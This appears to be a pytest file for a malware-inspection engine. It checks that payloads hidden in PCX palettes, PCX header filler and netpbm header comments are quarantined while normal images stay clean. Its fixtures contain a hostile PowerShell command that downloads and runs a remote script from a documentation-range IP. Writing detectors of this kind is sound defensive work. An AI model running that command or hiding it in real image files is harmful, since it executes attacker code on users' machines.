"""PCX palettes and header filler, and netpbm header comments, are judged
(agent/inspect/pcx.py, agent/inspect/netpbm.py).

ZSoft's PCX Technical Reference: header bytes 16-63 are a 16-colour palette, 74-127
filler; a version-5 8-bit image ends with 0x0C and a 768-byte palette. Netpbm (pbm(5),
pgm(5), ppm(5)): a header may hold `#` comments up to the end of their line.
"""

from __future__ import annotations

import base64
import io

import pytest
from PIL import Image

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import gradient

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
SHORT_SCRIPT = b"powershell iex(iwr http://198.51.100.7/a)"  # fits the 54 filler bytes
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
PALETTE_BYTES = 768
FILLER_AT, HEADER_BYTES = 74, 128


def _save(image: Image.Image, fmt: str) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


PCX_8BIT = _save(gradient((64, 48)).convert("P"), "PCX")
PCX_24BIT = _save(gradient((64, 48)), "PCX")
PPM = _save(gradient((64, 48)), "PPM")
PPM_RASTER = PPM[PPM.index(b"255\n") + 4 :]


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_the_pcx_palette_is_quarantined(kind: str) -> None:
    assert PCX_8BIT[-PALETTE_BYTES - 1] == 0x0C
    palette = PAYLOADS[kind][:PALETTE_BYTES].ljust(PALETTE_BYTES, b" ")
    report = inspect_bytes("scan.pcx", PCX_8BIT[:-PALETTE_BYTES] + palette)
    assert report.verdict.value == "quarantine"
    assert "pcx.payload_in_metadata" in {f.code for f in report.findings}


def test_a_script_in_the_pcx_header_filler_is_quarantined() -> None:
    filler = SHORT_SCRIPT.ljust(HEADER_BYTES - FILLER_AT, b" ")
    pcx = PCX_24BIT[:FILLER_AT] + filler + PCX_24BIT[HEADER_BYTES:]
    assert inspect_bytes("scan.pcx", pcx).verdict.value == "quarantine"


def test_pillows_pcx_files_stay_clean() -> None:
    for pcx in (PCX_8BIT, PCX_24BIT, _save(gradient((64, 48)).convert("L"), "PCX")):
        assert inspect_bytes("scan.pcx", pcx).verdict.value == "clean"


def test_a_script_in_a_netpbm_comment_is_quarantined() -> None:
    ppm = b"P6\n# " + SCRIPT + b"\n64 48\n255\n" + PPM_RASTER
    report = inspect_bytes("scan.ppm", ppm)
    assert report.verdict.value == "quarantine"
    assert "netpbm.payload_in_metadata" in {f.code for f in report.findings}


def test_a_writers_netpbm_comment_stays_clean() -> None:
    ppm = b"P6\n# Created by GIMP version 2.10.34 PNM plug-in\n64 48\n255\n" + PPM_RASTER
    assert inspect_bytes("scan.ppm", ppm).verdict.value == "clean"
    assert inspect_bytes("scan.ppm", PPM).verdict.value == "clean"
